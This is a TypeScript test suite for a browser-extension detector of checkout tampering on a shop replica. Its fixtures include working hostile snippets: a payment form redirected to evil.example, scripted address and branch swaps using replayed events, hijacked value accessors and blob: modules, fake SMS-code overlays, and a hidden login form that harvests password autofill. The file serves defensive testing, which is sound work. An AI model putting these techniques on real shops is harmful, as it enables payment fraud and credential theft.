/**
 * Checkout tampering — the payment form pointed at a stranger, the pickup branch switched by a script,
 * a fake dialog over the page asking for the SMS code — against a person checking out: typing the
 * address (with an address book filling the empty fields first), choosing a branch with the keyboard,
 * confirming the order, and paying at the shop's own payment provider.
 */
import { readFileSync } from 'node:fs';
import type { Page } from 'puppeteer';
import { expect, it } from 'vitest';
import { BENIGN_NEIGHBOURS, ISOLATED_HELPER } from '../helpers/fixture-extensions.ts';
import { MAIN_WORLD_HELPER } from '../helpers/paths.ts';
import type { SaqBrowser } from '../helpers/harness.ts';
import type { ShopServer } from '../shop/index.ts';
import { STATIC } from '../shop/config.ts';
import { HELPER_CDN } from '../helpers/hostile/attacks.ts';
import { serveHostilePage } from '../helpers/hostile/pages.ts';
import { pollPage } from '../helpers/harness.ts';
import { recordCase } from './detection-table.ts';
import { describeEachBrowser, eventually } from './each-browser.ts';
import { keptFindings } from './kept-findings.ts';
import type { MainWorldScript } from '../helpers/hostile/main-world.ts';
import { serve } from './sensors-main-support.ts';
import { afterSettling, humanPause, openShopTab, PRODUCT, rulesFire, SHOP } from './sensors-rest-support.ts';

const BEHAVIOUR = 'checkout tampering';

/** A coin in the cart (bought by a person), then the checkout page, with the helper told what to do. */
async function atCheckout(
  saq: SaqBrowser,
  shop: ShopServer,
  helperMode?: string,
  query: Record<string, string> = {},
): Promise<{ page: Page; tabId: number }> {
  const { page, tabId } = await openShopTab(saq, PRODUCT);
  await page.click('[data-action="add-to-cart"]');
  // The buy block's state and the cart requests the server saw go into the error, so a click that
  // did not buy says where it stopped (never reached the page, refused, or not shown).
  const cartRequests = () => shop.requests.filter((request) => request.path.startsWith('/api/cart')).map((request) => request.path);
  await eventually(
    async () => ({
      ...(await page.$eval('[data-role="buy-block"]', (block) => ({
        phase: (block as HTMLElement).dataset.phase,
        button: block.querySelector('button')?.disabled ? 'disabled' : 'enabled',
        message: block.querySelector('[data-role="cart-message"]')?.textContent ?? '',
      }))),
      count: await page.$eval('[data-role="cart-count"]', (count) => count.textContent ?? ''),
      requests: cartRequests(),
    }),
    ({ count }) => count !== '' && count !== '0',
    'the coin in the cart',
  );
  const checkout = new URL('/kz/checkout', SHOP);
  for (const [name, value] of Object.entries({ ...(helperMode ? { 'saq-helper': helperMode } : {}), ...query }))
    checkout.searchParams.set(name, value);
  await page.goto(checkout.href, { waitUntil: 'load' });
  return { page, tabId };
}

/** The replica's own checkout script, which a test extends with more of the shop's checkout code. */
const CHECKOUT_JS = readFileSync(new URL('../shop/static/checkout.js', import.meta.url), 'utf8');
/**
 * The shop's map of pickup branches: its pin sets the branch by `setBranch` (code with `branch` and `pin` in scope),
 * fires change, and sets `__pinned`. `prepare` runs first (code with `branch` in scope).
 */
const branchMap = (setBranch: string, prepare = ''): string => `(function () {
  var branch = document.querySelector('[data-role="pickup-branch"]');
  ${prepare}
  var map = document.createElement('div');
  map.innerHTML = '<button type="button" class="pin" data-branch="almaty">Алматы</button>';
  branch.parentElement.after(map);
  map.addEventListener('click', function (event) {
    var pin = event.target.closest('.pin');
    if (!pin) return;
    ${setBranch}
    branch.dispatchEvent(new Event('change', { bubbles: true }));
    window.__pinned = true;
  });
})();`;

/**
 * The shop's checkout help that fires events from its own code: address suggestions (DaData, Google Places) that
 * complete the street the person started typing, and a map whose pins set the pickup branch.
 */
const SUGGESTIONS_AND_MAP = `(function () {
  var street = document.querySelector('input[autocomplete="street-address"]');
  var list = document.createElement('ul');
  list.className = 'suggestions';
  street.insertAdjacentElement('afterend', list);
  street.addEventListener('input', function (event) {
    if (event.isTrusted) list.innerHTML = '<li data-v="пр-кт Абая, д. 10, кв. 5">пр-кт Абая, д. 10, кв. 5</li>';
  });
  list.addEventListener('click', function (event) {
    var item = event.target.closest('li');
    if (!item) return;
    street.value = item.dataset.v;
    street.dispatchEvent(new Event('input', { bubbles: true }));
    street.dispatchEvent(new Event('change', { bubbles: true }));
    list.innerHTML = '';
    window.__suggested = true;
  });
})();
${branchMap('branch.value = pin.dataset.branch;')}`;

/**
 * A helper's script that gives one field its own `value` accessor: read through the native getter (`native`), written
 * by `set` (a function's source, which may call `native.set`).
 */
const ownValueAccessor = (selector: string, prototype: string, set: string): string => `(function () {
  var field = document.querySelector('${selector}');
  var native = Object.getOwnPropertyDescriptor(${prototype}.prototype, 'value');
  Object.defineProperty(field, 'value', {
    configurable: true,
    get: function () { return native.get.call(this); },
    set: ${set},
  });
})();`;

/** The person types the start of the street and takes the shop's suggestion; the page then sets `window[flag]`. */
async function takeSuggestion(page: Page, flag: string, what: string): Promise<void> {
  await typeStreet(page, 'Abay 10');
  await page.click('ul.suggestions li');
  await pollPage(page, (name: string) => (window as unknown as Record<string, unknown>)[name] === true, flag, what);
}

/** The person picks pickup and the map's Almaty pin; the page then sets `__pinned`. Resolves to the branch's value. */
async function pinAlmaty(page: Page): Promise<string> {
  await page.click('input[name="delivery"][value="pickup"]');
  await page.click('.pin[data-branch="almaty"]');
  await pollPage(page, () => (window as { __pinned?: boolean }).__pinned === true, undefined, 'the branch pinned');
  return page.$eval('[data-role="pickup-branch"]', (select) => (select as HTMLSelectElement).value);
}

/** The person selects the street the address book filled in and types theirs. */
async function typeStreet(page: Page, street: string): Promise<void> {
  await eventually(
    () => page.$eval('input[autocomplete="street-address"]', (field) => (field as HTMLInputElement).value),
    (value) => value !== '',
    'the address book to fill the address',
  );
  await page.click('input[autocomplete="street-address"]', { count: 3 });
  await page.keyboard.type(street, { delay: 60 });
}

describeEachBrowser('sensors-rest: checkout', (context) => {
  const saqBrowser = context.blockBrowser(() => ({ extraExtensions: [ISOLATED_HELPER, BENIGN_NEIGHBOURS, MAIN_WORLD_HELPER] }));
  const browser = context.browserName;

  /** SAQ-CHK-002 fires for the delivery field named (a malicious case). */
  async function deliveryCaught(
    saq: SaqBrowser,
    tabId: number,
    task: Parameters<typeof recordCase>[0],
    caseName: string,
    field: string,
    /** The address of the helper's script the verdict must name. */
    actorUrl?: string,
  ): Promise<void> {
    const verdicts = await rulesFire(saq, tabId, ['SAQ-CHK-002']);
    recordCase(task, { behaviour: BEHAVIOUR, case: caseName, malicious: true, flagged: verdicts !== null, browser });
    expect(verdicts).not.toBeNull();
    const verdict = verdicts!.find((v) => v.ruleId === 'SAQ-CHK-002')!;
    expect(verdict.finding.evidence).toMatchObject({ change: 'delivery', field });
    if (actorUrl !== undefined) expect(verdict.finding.actor.url).toBe(actorUrl);
  }

  /**
   * The shop's checkout script with more of the shop's own code (`shopCode`), loading a helper's script `name` from
   * the helper's CDN (a tag it compromised). Returns the helper script's address.
   */
  function checkoutWithHelper(name: string, helperCode: string, shopCode = ''): string {
    const url = `https://${HELPER_CDN}/${name}.js`;
    context.shop.setFixture(
      STATIC.checkout,
      `${CHECKOUT_JS}\n${shopCode}\n(function () { var s = document.createElement('script'); s.src = '${url}'; document.head.appendChild(s); })();`,
      { contentType: 'text/javascript' },
    );
    context.shop.setFixture(`/${name}.js`, helperCode, { host: HELPER_CDN, contentType: 'text/javascript' });
    return url;
  }

  /** SAQ-CHK-003 fires for a field asking for this secret (a malicious case). */
  async function overlayCaught(
    saq: SaqBrowser,
    tabId: number,
    task: Parameters<typeof recordCase>[0],
    caseName: string,
    asksFor = 'sms-code',
  ): Promise<void> {
    const verdicts = await rulesFire(saq, tabId, ['SAQ-CHK-003']);
    recordCase(task, { behaviour: BEHAVIOUR, case: caseName, malicious: true, flagged: verdicts !== null, browser });
    expect(verdicts).not.toBeNull();
    expect(verdicts!.find((verdict) => verdict.ruleId === 'SAQ-CHK-003')!.finding.evidence).toMatchObject({ change: 'overlay', asksFor });
  }

  /** A benign case: recorded for the detection table, then nothing serious and no badge after `settleMs`. */
  async function staysSilent(
    saq: SaqBrowser,
    tabId: number,
    task: Parameters<typeof recordCase>[0],
    caseName: string,
    settleMs: number,
  ): Promise<void> {
    const { serious, badge } = await afterSettling(saq, tabId, settleMs);
    recordCase(task, { behaviour: BEHAVIOUR, case: caseName, malicious: false, flagged: serious.length > 0, browser });
    expect(serious).toEqual([]);
    expect(badge).toBe('');
  }

  /** The person confirms the order; the shop creates it, and Saq has raised nothing (a benign case). */
  async function confirmsSilently(
    saq: SaqBrowser,
    page: Page,
    tabId: number,
    task: Parameters<typeof recordCase>[0],
    caseName: string,
  ): Promise<void> {
    await page.click('[data-role="order-confirm"]');
    await eventually(
      () => page.$eval('[data-role="checkout-submit"]', (button) => (button as HTMLButtonElement).disabled),
      (disabled) => !disabled,
      'the order to be created',
    );
    await staysSilent(saq, tabId, task, caseName, 2_000);
  }

  const ACTIONS: [title: string, mode: string, caseName: string][] = [
    ['catches the payment form pointed at another host', 'payment-action', 'payment form action rewritten to a stranger'],
    [
      'catches the payment form pointed at another host behind a field named "action" (which a form lets win over its own property)',
      'payment-action-shadowed',
      'payment form action rewritten behind a field named "action"',
    ],
  ];
  for (const [title, mode, caseName] of ACTIONS) {
    it(title, async ({ task }) => {
      const saq = await saqBrowser();
      const { tabId } = await atCheckout(saq, context.shop, mode);
      const verdicts = await rulesFire(saq, tabId, ['SAQ-CHK-001']);
      recordCase(task, { behaviour: BEHAVIOUR, case: caseName, malicious: true, flagged: verdicts !== null, browser });
      expect(verdicts).not.toBeNull();
      expect(verdicts!.find((verdict) => verdict.ruleId === 'SAQ-CHK-001')!.finding.evidence).toMatchObject({
        change: 'form-action',
        url: 'https://evil.example/pay',
      });
    });
  }

  it('catches the payment form pointed at another host while the page is still being parsed', async ({ task }) => {
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop, 'payment-action-early', { 'parse-pause': '400' });
    const verdicts = await rulesFire(saq, tabId, ['SAQ-CHK-001']);
    recordCase(task, {
      behaviour: BEHAVIOUR,
      case: 'payment form action rewritten during the parse',
      malicious: true,
      flagged: verdicts !== null,
      browser,
    });
    // The fixture notes the document's state when it acted: this case is about the parse.
    expect(await page.evaluate(() => document.documentElement.dataset.saqHelperPhase)).toBe('loading');
    expect(verdicts).not.toBeNull();
    expect(verdicts!.find((verdict) => verdict.ruleId === 'SAQ-CHK-001')!.finding.evidence).toMatchObject({
      change: 'form-action',
      url: 'https://evil.example/pay',
    });
  });

  it('catches the pickup branch switched by a script', async ({ task }) => {
    const saq = await saqBrowser();
    const { tabId } = await atCheckout(saq, context.shop, 'branch');
    await deliveryCaught(saq, tabId, task, 'pickup branch changed by script', 'branch');
  });

  it("catches a helper's page script switching the pickup branch with a change event, and names it", async ({ task }) => {
    // The helper rides on the shop's checkout script (a tag it compromised), loads its own and switches the branch.
    const helper = checkoutWithHelper(
      'branch',
      `setTimeout(function () { var b = document.querySelector('[data-role="pickup-branch"]'); b.value = 'oskemen'; b.dispatchEvent(new Event('change', { bubbles: true })); }, 300);`,
    );
    const saq = await saqBrowser();
    const { tabId } = await atCheckout(saq, context.shop);
    await deliveryCaught(saq, tabId, task, "pickup branch switched by a helper's page script (change event)", 'branch', helper);
  });

  // Two bypasses a review found in the first version of the shop's own dispatches taken as the person's (stop 55).
  it("catches a helper replaying the shop's own change event after rewriting the street, and names it", async ({ task }) => {
    const helper = checkoutWithHelper(
      'replay',
      `(function () {
  var street = document.querySelector('input[autocomplete="street-address"]');
  var saved = null;
  street.addEventListener('change', function (event) {
    if (event.isTrusted || saved) return;
    saved = event;
    setTimeout(function () { street.value = 'ул. Чужая, д. 13, кв. 666'; street.dispatchEvent(saved); window.__replayed = true; }, 300);
  });
})();`,
      SUGGESTIONS_AND_MAP,
    );
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop);
    await takeSuggestion(page, '__replayed', 'the helper to replay the event');
    await deliveryCaught(saq, tabId, task, "street rewritten and the shop's own change event replayed by a helper", 'address', helper);
  });

  it("catches a helper's own accessor on the street rewriting what the shop's suggestions write through it, and names it", async ({
    task,
  }) => {
    const helper = checkoutWithHelper(
      'setter',
      ownValueAccessor(
        'input[autocomplete="street-address"]',
        'HTMLInputElement',
        "function (v) { native.set.call(this, String(v).indexOf('Абая') >= 0 ? 'ул. Чужая, д. 13, кв. 666' : v); }",
      ),
      SUGGESTIONS_AND_MAP,
    );
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop);
    await takeSuggestion(page, '__suggested', 'the suggestion taken');
    await deliveryCaught(saq, tabId, task, "street rewritten by a helper's accessor as the shop's suggestions write it", 'address', helper);
  });

  // An option's `selected` (or `defaultSelected`, or the options' `selectedIndex`, or the selected option's own
  // `value`, or its `text` when it has no value attribute) is the select's value written by another name: a helper's
  // own accessor on the branch turned the shop's map writing Almaty into one of these, and the shop's change event
  // then vouched for it (left by the review of stop 55; the last two found by the review of stop 58).
  const PICK = "for (var i = 0; i < this.options.length; i++) if (this.options[i].value === 'oskemen') ";
  it.for([
    ['selected', `${PICK}this.options[i].selected = true;`],
    ['defaultSelected', `${PICK}this.options[i].defaultSelected = true;`],
    ["the options' selectedIndex", `${PICK}this.options.selectedIndex = i;`],
    ["the selected option's value", "this.options[this.selectedIndex].value = 'oskemen';"],
    [
      "the selected option's text (no value attribute)",
      "var o = this.options[this.selectedIndex]; o.removeAttribute('value'); o.text = 'oskemen';",
    ],
  ] as const)(
    "catches a helper's own accessor on the branch writing its branch by %s as the shop's map writes the branch, and names it",
    async ([how, write], { task }) => {
      const helper = checkoutWithHelper(
        `option-${how.replace(/\W+/g, '-')}`,
        ownValueAccessor('[data-role="pickup-branch"]', 'HTMLSelectElement', `function () { ${write} }`),
        SUGGESTIONS_AND_MAP,
      );
      const saq = await saqBrowser();
      const { page, tabId } = await atCheckout(saq, context.shop);
      expect(await pinAlmaty(page)).toBe('oskemen');
      await deliveryCaught(
        saq,
        tabId,
        task,
        `pickup branch written by ${how} in a helper's accessor as the shop's map writes it`,
        'branch',
        helper,
      );
    },
  );

  it("catches the pickup branch switched from a module a helper made from a blob (the shop's origin in its address)", async ({ task }) => {
    const code = `var b = document.querySelector('[data-role="pickup-branch"]'); b.value = 'oskemen'; b.dispatchEvent(new Event('change', { bubbles: true }));`;
    checkoutWithHelper(
      'blob-branch',
      `setTimeout(function () { import(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' }))); }, 300);`,
    );
    const saq = await saqBrowser();
    const { tabId } = await atCheckout(saq, context.shop);
    await deliveryCaught(saq, tabId, task, 'pickup branch switched from a blob: module a helper imported', 'branch');
  });

  // Both were SAQ-CHK-002 (danger) on the shop's own code, in both browsers (a review of benign pages, stop 55).
  it("stays silent for the shop's address suggestions and branch map, which set the fields and fire input and change", async ({ task }) => {
    context.shop.setFixture(STATIC.checkout, `${CHECKOUT_JS}\n${SUGGESTIONS_AND_MAP}`, { contentType: 'text/javascript' });
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop);
    await takeSuggestion(page, '__suggested', 'the suggestion taken');
    await humanPause(300, 200);
    await page.click('input[name="delivery"][value="pickup"]');
    await page.click('.pin[data-branch="almaty"]');
    await pollPage(page, () => (window as { __pinned?: boolean }).__pinned === true, undefined, 'the branch pinned');
    await humanPause(300, 200);
    await confirmsSilently(saq, page, tabId, task, "the shop's address suggestions and branch map (events from its own code)");
  });

  // jQuery's `.val()` on a select writes `selected` on every option: with the shop's long branch list each write took a
  // stack, past the capture budget, and the last ones named nobody — SAQ-CHK-002, danger (review of stop 58). Only a
  // write that changes the select's value counts now.
  it("stays silent for the shop's branch map setting a 70-branch list the way jQuery's .val() does", async ({ task }) => {
    const JQUERY_MAP = branchMap(
      `var options = branch.options, i = options.length, set = false;
    while (i--) { if ((options[i].selected = options[i].value === pin.dataset.branch)) set = true; }
    if (!set) branch.selectedIndex = -1;`,
      `var more = '';
  for (var k = 0; k < 64; k++) more += '<option value="b' + k + '">B' + k + '</option>';
  branch.insertAdjacentHTML('beforeend', more);`,
    );
    context.shop.setFixture(STATIC.checkout, `${CHECKOUT_JS}\n${JQUERY_MAP}`, { contentType: 'text/javascript' });
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop);
    expect(await pinAlmaty(page)).toBe('almaty');
    await humanPause(300, 200);
    await confirmsSilently(saq, page, tabId, task, "the shop's branch map setting a 70-branch list as jQuery's .val() does");
  });

  it('catches the street quietly rewritten after the person typed it, when the order is confirmed', async ({ task }) => {
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop, 'address-swap');
    await typeStreet(page, 'Dostyk ave 5');
    await page.click('input[name="delivery"][value="post"]');
    await eventually(
      () => page.$eval('input[autocomplete="street-address"]', (field) => (field as HTMLInputElement).value),
      (value) => value.startsWith('Tole bi'),
      'the helper to rewrite the street',
    );
    await page.click('[data-role="order-confirm"]');
    await deliveryCaught(saq, tabId, task, 'street rewritten without events after the person typed it', 'address');
  });

  // Fake "confirm with the SMS code" dialogs, each hidden a little better: [test, helper mode, table case].
  const OVERLAYS: Array<[string, string, string]> = [
    ['catches a fake dialog over the page asking for the SMS code', 'overlay', 'foreign overlay asks for the SMS code'],
    [
      'catches the same dialog with 2,000 empty elements after its field',
      'overlay-padded',
      'foreign overlay asks for the SMS code, padded with 2,000 elements',
    ],
    [
      'catches the same dialog hidden in a closed shadow root',
      'overlay-shadow',
      'foreign overlay in a closed shadow root asks for the SMS code',
    ],
    [
      'catches the closed-root dialog added after a hundred other elements, when it takes focus',
      'overlay-shadow-decoys',
      'closed-root overlay among 100 new elements takes focus',
    ],
    ['catches the dialog drawn in an about:blank frame over the page', 'overlay-frame', 'foreign overlay in an about:blank frame'],
    ['catches the dialog drawn in a srcdoc frame over the page', 'overlay-srcdoc', 'foreign overlay in a srcdoc frame'],
    ['catches the dialog drawn in an XHTML (blob:) frame over the page', 'overlay-xhtml', 'foreign overlay in an XHTML blob: frame'],
  ];
  for (const [title, mode, caseName] of OVERLAYS) {
    it(title, async ({ task }) => {
      const saq = await saqBrowser();
      const { tabId } = await atCheckout(saq, context.shop, mode);
      await overlayCaught(saq, tabId, task, caseName);
    });
  }

  it('catches the dialog added hidden and shown later by a style change alone, once the person clicks into its field', async ({ task }) => {
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop, 'overlay-hidden');
    const field = '[data-shown] input[name="sms"]';
    await eventually(
      () => page.$(field),
      (found) => found !== null,
      'the dialog shown',
    );
    await page.click(field);
    await overlayCaught(saq, tabId, task, 'overlay added hidden, shown by a style change');
  });

  // Secret fields a helper's script in the page's own world places, where the MAIN world sees who placed them:
  // the fake SMS dialog node by node and as markup, and with nothing over the page at all — a code field in the
  // checkout form, a hidden sign-in form for the password manager to fill. [test, script, asks for, table case]
  const PAGE_FIELDS: Array<[string, MainWorldScript, string, string]> = [
    [
      'the fake SMS dialog a helper’s page script draws node by node',
      'page-overlay',
      'sms-code',
      "page script's overlay asks for the SMS code, drawn node by node",
    ],
    [
      'the fake SMS dialog a helper’s page script draws as markup',
      'page-overlay-markup',
      'sms-code',
      "page script's overlay asks for the SMS code, drawn as markup",
    ],
    [
      'an SMS-code field a helper’s page script slips into the checkout form',
      'page-field-inline',
      'sms-code',
      "page script's SMS-code field in the checkout form",
    ],
    [
      'a hidden sign-in form a helper’s page script adds for the password manager to fill',
      'page-hidden-login',
      'password',
      "page script's hidden sign-in form (autofill harvest)",
    ],
  ];
  for (const [title, name, asksFor, caseName] of PAGE_FIELDS) {
    it(`catches ${title}`, async ({ task }) => {
      serve(context, name);
      const saq = await saqBrowser();
      const { tabId } = await atCheckout(saq, context.shop, undefined, { 'saq-tag': name });
      await overlayCaught(saq, tabId, task, caseName, asksFor);
    });
  }

  /** Opens one of the shop's own dialogs and types into its field what the person would. */
  async function usesShopDialog(page: Page, opener: string, field: string, text: string): Promise<void> {
    await page.click(opener);
    await eventually(
      () => page.$(field),
      (found) => found !== null,
      `the dialog ${opener} opens`,
    );
    await humanPause(300, 100); // longer than the overlay check's settle time
    await page.click(field);
    await page.keyboard.type(text, { delay: 40 });
    await page.keyboard.press('Enter');
    await eventually(
      () => page.$(field),
      (found) => found === null,
      `the dialog ${opener} to close`,
    );
  }

  it("stays silent for the shop's own dialogs over the page asking for the password, the SMS code, the certificate's password and a card's CVC (they are the page's)", async ({
    task,
  }) => {
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop);
    // "Sign in again", built node by node; "Confirm by SMS", written as markup.
    await usesShopDialog(page, '[data-signin-open]', '[data-signin] input[type="password"]', 'correct horse');
    await usesShopDialog(page, '[data-sms-open]', '[data-sms] input[name="sms_code"]', '482913');
    // "Sign in with EDS", a web component drawing itself in an open shadow root.
    await usesShopDialog(page, '[data-eds-open]', 'pierce/[data-eds] input[name="cert_password"]', 'certificate secret');
    // "Pay with a saved card", the CVC in a closed shadow root: no selector reaches its field, which it focuses itself.
    await page.click('[data-card-open]');
    await eventually(
      () => page.$('shop-saved-card'),
      (found) => found !== null,
      'the saved-card dialog opens',
    );
    await humanPause(300, 100);
    await page.keyboard.type('731', { delay: 40 });
    await page.keyboard.press('Enter');
    await eventually(
      () => page.$('shop-saved-card'),
      (found) => found === null,
      'the saved-card dialog to close',
    );
    // Seen, and seen as the page's: without the MAIN world's word each was a critical overlay.
    const overlays = await eventually(
      async () => (await keptFindings(saq, tabId, 'checkout-tamper')).filter((finding) => finding.evidence.change === 'overlay'),
      (found) => found.length >= 4,
      'the four dialogs reported as overlays',
    );
    expect(overlays.map((finding) => [finding.actor.type, finding.evidence.asksFor]).sort()).toEqual([
      ['page', 'card'],
      ['page', 'cert-password'],
      ['page', 'password'],
      ['page', 'sms-code'],
    ]);
    await staysSilent(
      saq,
      tabId,
      task,
      "the shop's own sign-in, SMS, EDS and saved-card dialogs over the page (in an open and a closed shadow root)",
      1_000,
    );
  });

  // The shop's payment widget draws its CVC dialog in a closed shadow root it made while the page loaded, re-renders
  // the page with document.open(), and puts the widget's host back. The call erased every listener in the document:
  // the MAIN world's inside that root too, which answers "who placed this field" for it (main/shop-fields.ts).
  const KEPT_CARD = `<script>
(function () {
  var host = document.createElement('shop-kept-card');
  var root = host.attachShadow({ mode: 'closed' });
  root.innerHTML = '<div style="position:fixed;inset:0;background:rgba(0,0,0,.4);display:flex;align-items:center;justify-content:center">'
    + '<form class="panel"><input name="cvc" autocomplete="cc-csc" inputmode="numeric" placeholder="CVC"> <button>Pay</button></form></div>';
  host.hidden = true;
  document.body.append(host);
  addEventListener('load', function () {
    if (document.documentElement.hasAttribute('data-opened')) return;
    setTimeout(function () {
      document.open();
      document.write('<!doctype html><html data-opened=""><head><title>re-rendered</title></head><body><main>Payment</main></body></html>');
      document.close();
      document.body.append(host);
      host.hidden = false;
      root.querySelector('input').focus();
    }, 200);
  });
})();
</script>`;
  it("stays silent for the shop's closed-root card dialog whose host it kept across a document.open() and put back", async ({ task }) => {
    const saq = await saqBrowser();
    const path = await serveHostilePage(context.shop, '/kz/product/kept-card', PRODUCT, { end: KEPT_CARD });
    const { page, tabId } = await openShopTab(saq, path);
    await page.waitForSelector('html[data-opened] shop-kept-card:not([hidden])');
    await humanPause(300, 100);
    await page.keyboard.type('731', { delay: 40 });
    const overlays = await eventually(
      async () => (await keptFindings(saq, tabId, 'checkout-tamper')).filter((finding) => finding.evidence.change === 'overlay'),
      (found) => found.length > 0,
      'the card dialog reported as an overlay',
    );
    expect(overlays.map((finding) => [finding.actor.type, finding.evidence.asksFor])).toEqual([['page', 'card']]);
    await staysSilent(saq, tabId, task, "the shop's closed-root card dialog, its host kept across a document.open() and put back", 1_000);
  });

  it("catches a helper that turns the shop's own sign-in dialog into one asking for the SMS code", async ({ task }) => {
    serve(context, 'renames-shop-dialog');
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop, undefined, { 'saq-tag': 'renames-shop-dialog' });
    await page.click('[data-signin-open]');
    // The helper waits until Saq has looked at the dialog (the shop's, and silent), then renames the field.
    await eventually(
      () => page.evaluate(() => (window as unknown as { __renamed?: boolean }).__renamed === true),
      (renamed) => renamed,
      'the helper to rename the field',
    );
    await overlayCaught(saq, tabId, task, "shop's sign-in dialog renamed to ask for the SMS code");
  });

  it('stays silent for a notice over the whole page whose only field is an SMS consent checkbox', async ({ task }) => {
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop, 'consent-overlay');
    await eventually(
      () => page.$('input[name="sms-consent"]'),
      (field) => field !== null,
      'the notice',
    );
    await staysSilent(saq, tabId, task, 'full-window notice with an SMS consent checkbox', 2_000);
  });

  it("stays silent for the shop's own checkout help: saved details filled in after load, typing tidied, a promo-code dialog over the page", async ({
    task,
  }) => {
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop);
    // The shop fills the saved city and receipt e-mail (no events) ...
    await eventually(
      () => page.$eval('input[name="email_address"]', (field) => (field as HTMLInputElement).value),
      (value) => value !== '',
      'the shop to fill the receipt e-mail',
    );
    // ... the person types a street with stray spaces and their e-mail in capitals, which the shop tidies ...
    await typeStreet(page, '  Dostyk   ave 5 ');
    await page.click('input[name="email_address"]', { count: 3 });
    await page.keyboard.type('AIGERIM@MAIL.KZ', { delay: 40 });
    await page.click('input[name="delivery"][value="post"]');
    expect(await page.$eval('input[autocomplete="street-address"]', (field) => (field as HTMLInputElement).value)).toBe('Dostyk ave 5');
    expect(await page.$eval('input[name="email_address"]', (field) => (field as HTMLInputElement).value)).toBe('aigerim@mail.kz');
    // ... opens the promo-code dialog over the whole page and applies a code ...
    await page.click('[data-promo-open]');
    await eventually(
      () => page.$('input[name="promocode"]'),
      (field) => field !== null,
      'the promo-code dialog',
    );
    await humanPause(300, 100); // longer than the overlay check's settle time
    await page.keyboard.type('COINS2026', { delay: 40 });
    await page.keyboard.press('Enter');
    // (An alarm here would put Saq's warning over the page, and the confirmation below would not reach it.)
    expect((await afterSettling(saq, tabId, 500)).serious).toEqual([]);
    // ... and confirms the order.
    await confirmsSilently(saq, page, tabId, task, "the shop's own profile fill, tidying and promo-code dialog");
  });

  it('stays silent for a person checking out (address autofill, keyboard branch choice, payment at the provider)', async ({ task }) => {
    const saq = await saqBrowser();
    const { page, tabId } = await atCheckout(saq, context.shop);
    // The address book (benign neighbour) filled the empty address fields; the person corrects the street.
    await typeStreet(page, 'Dostyk ave 5');
    await humanPause(300, 300);
    // Then changes their mind: pickup at a branch, chosen with the keyboard (trusted events).
    await page.click('input[name="delivery"][value="pickup"]');
    await page.focus('[data-role="pickup-branch"]');
    await page.keyboard.press('ArrowDown');
    await humanPause(300, 300);
    await confirmsSilently(saq, page, tabId, task, 'person checks out: autofill, keyboard branch choice, pays at the provider');
    // Paying goes to the shop's own provider: a native form POST the shop itself set up.
    await Promise.all([page.waitForNavigation(), page.click('[data-role="checkout-submit"]')]);
    expect(context.shop.requests.some((request) => request.host === 'epay.kazpay.test' && request.method === 'POST')).toBe(true);
  });
});
